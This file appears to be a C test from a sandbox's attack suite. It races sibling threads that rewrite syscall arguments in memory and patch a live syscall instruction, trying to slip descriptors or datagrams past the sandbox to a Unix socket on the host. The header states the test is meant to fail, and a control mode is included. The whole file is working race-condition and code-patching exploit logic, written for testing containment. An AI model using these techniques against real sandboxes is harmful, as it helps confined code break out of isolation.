// SPDX-License-Identifier: Apache-2.0
// Tries:      to have a descriptor that goes between a thread and init sent to a socket of the host's: MODE SOCKET. `give` changes where init sends
//             one that was opened with O_PATH; `take` what the thread's courier sends to init, and what lies in its table; `code` has the courier
//             run other code than its call. A sibling thread writes all the while where these messages lie in memory.
// Known from: system call wrappers, as race_paths; confused deputies by SCM_RIGHTS.
// Must:       fail: nothing reaches the socket, whose server outside says what it hears.
// Control:    `control`, which sends as the courier does, but with a table and a socket of its own making
// Argument:   MODE SOCKET; or serve SOCKET
// Behind:     the filter is not what holds this
#include "attack.h"
#include <pthread.h>
#include <setjmp.h>
#include <stdatomic.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>

static struct sockaddr_un outside = {.sun_family = AF_UNIX}, inside = {.sun_family = AF_UNIX, .sun_path = "/tmp/race-descriptors"};
static const socklen_t size = sizeof(struct sockaddr_un);
// What lies below the stack while a descriptor is on its way (native/sentry/handover.cc and delivery.cc).
static struct taken { char byte; struct iovec text; struct msghdr message; } *volatile taken;
static struct given { struct sockaddr_un address; socklen_t length; } *volatile given;
static struct taken own;
static int other = -1;  // a datagram socket

static int serve(const char *path) {
  int s = socket(AF_UNIX, SOCK_DGRAM, 0);
  char bytes[64];
  unlink(path);
  if (bind(s, (void *)&outside, size) || chmod(path, 0777)) untried("%s: %s", path, strerror(errno));
  puts("serving"), fflush(stdout);
  while (recv(s, bytes, sizeof bytes, 0) >= 0) puts("heard"), fflush(stdout);
  return 2;
}

static void *rewrite_taken(void *unused) {
  for (unsigned i = 0;; i++) {
    struct msghdr *message = &taken->message;
    message->msg_name = &outside;
    message->msg_namelen = size;
    if (i % 64 == 0) message->msg_namelen = 0, usleep(50);
  }
  return unused;
}

static atomic_int ended;

static void *replace(void *unused) {
  for (unsigned i = 0; !ended; i++) dup2(other, i % 2);
  return unused;
}

static void *rewrite_given(void *unused) {
  for (unsigned i = 0;; i++) {
    memcpy(&given->address, &outside, sizeof outside);
    given->length = size;
    if (i % 64 == 0) usleep(50);
  }
  return unused;
}

// A call that is made with a stack pointer that is known.
static long call(long nr, long a, long b, long c, long d) {
  long result;
  register long fourth asm("r10") = d;
  uintptr_t stack;
  asm volatile("mov %%rsp, %0" : "=r"(stack));
  taken = (void *)((stack - 128 - 1024) & ~15UL);
  given = (void *)taken;
  asm volatile("syscall" : "=a"(result) : "0"(nr), "D"(a), "S"(b), "d"(c), "r"(fourth) : "rcx", "r11", "memory");
  return result;
}

// The instruction lies where the sibling can change it, and leads here then.
static unsigned char *code;
static pid_t first;
static jmp_buf again;
static volatile long strays;

static long raw(long nr, long a, long b, long c, long d, long e, long f) {
  long result;
  register long r10 asm("r10") = d, r8 asm("r8") = e, r9 asm("r9") = f;
  asm volatile("syscall" : "=a"(result) : "0"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
  return result;
}

static void astray(void) {
  if (raw(SYS_gettid, 0, 0, 0, 0, 0, 0) == first) longjmp(again, 1);
  strays++;
  struct iovec part = {"x", 1};
  struct msghdr message = {.msg_name = &outside, .msg_namelen = size, .msg_iov = &part, .msg_iovlen = 1};
  for (int place = 0; place < 2; place++) {
    raw(SYS_dup2, other, place, 0, 0, 0, 0);
    raw(SYS_sendmsg, place, (long)&message, MSG_DONTWAIT, 0, 0, 0);
    raw(SYS_sendto, place, (long)"x", 1, MSG_DONTWAIT, (long)&outside, size);
  }
  raw(SYS_exit, 0, 0, 0, 0, 0, 0);
}

static char stack_of_strays[65536] __attribute__((aligned(16)));

static void *rewrite_code(void *unused) {
  for (unsigned i = 0;; i++) {
    *(volatile uint16_t *)code = 0xe3ff;  // jmp *%rbx
    for (volatile unsigned spin = seed() % 7 + i % 50; spin; spin--) {}
    *(volatile uint16_t *)code = 0x050f;  // syscall
    usleep(i % 200);
  }
  return unused;
}

static long call_there(long nr, long a, long b, long c) {
  long result;
  asm volatile("call *%1" : "=a"(result) : "r"(code), "0"(nr), "D"(a), "S"(b), "d"(c), "b"(code + 16) : "rcx", "r11", "memory");
  return result;
}

int main(int argc, char **argv) {
  if (argc != 3) untried("MODE SOCKET");
  const char *mode = argv[1];
  strncpy(outside.sun_path, argv[2], sizeof outside.sun_path - 1);
  if (!strcmp(mode, "serve")) return serve(argv[2]);
  int target = socket(AF_UNIX, SOCK_DGRAM, 0), s = socket(AF_UNIX, SOCK_DGRAM, 0);
  other = socket(AF_UNIX, SOCK_DGRAM, 0);
  first = gettid();
  unlink(inside.sun_path);
  if (strcmp(mode, "control") && bind(target, (void *)&inside, size)) untried("bind: %s", strerror(errno));
  static volatile long tries, done;
  const int out = dup(1);
  pthread_t sibling, second;
  struct timespec begin = now();
  if (!strcmp(mode, "control")) {
    struct iovec part = {"x", 1};
    taken = &own;
    pthread_create(&sibling, 0, rewrite_taken, 0);
    for (; !over(begin, tries); tries++) {
      own.message = (struct msghdr){.msg_iov = &part, .msg_iovlen = 1};
      sendmsg(other, &own.message, MSG_DONTWAIT);  // it has no address, when one looks
    }
    return 0;
  }
  taken = (void *)(stack_of_strays + 1024), given = (void *)taken;
  if (!strcmp(mode, "give")) {
    pthread_create(&sibling, 0, rewrite_given, 0);
    for (; !over(begin, tries); tries++) {
      long fd = call(SYS_openat, AT_FDCWD, (long)"/tmp", O_PATH, 0);
      if (fd >= 0) done++, close((int)fd);
      yields();
    }
  } else if (!strcmp(mode, "take")) {
    pthread_create(&sibling, 0, rewrite_taken, 0);
    pthread_create(&second, 0, replace, 0);
    for (; !over(begin, tries); tries++) {
      done += call(SYS_connect, s, (long)&inside, size, 0) == 0;
      yields();
    }
    ended = 1;
    pthread_join(second, 0);
    dup2(out, 1);
  } else if (!strcmp(mode, "code")) {
    code = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (code == MAP_FAILED) untried("mmap: %s", strerror(errno));
    // syscall; ret … and what the other instruction leads to: mov $stack, %rsp; mov $astray, %rax; call *%rax
    unsigned char *at = code;
    memcpy(at, "\x0f\x05\xc3", 3);
    void *top = stack_of_strays + sizeof stack_of_strays, *there = (void *)astray;
    at = code + 16;
    *at++ = 0x48, *at++ = 0xbc, memcpy(at, &top, 8), at += 8;
    *at++ = 0x48, *at++ = 0xb8, memcpy(at, &there, 8), at += 8;
    *at++ = 0xff, *at++ = 0xd0;
    pthread_create(&sibling, 0, rewrite_code, 0);
    setjmp(again);
    for (; !over(begin, tries); tries++) {
      done += call_there(SYS_connect, s, (long)&inside, size) == 0;
      yields();
    }
  } else {
    untried("%s is no mode", mode);
  }
  printf("%ld tries, %ld done, %ld strays, seed %u\n", tries, done, strays, seed());
  held();
}
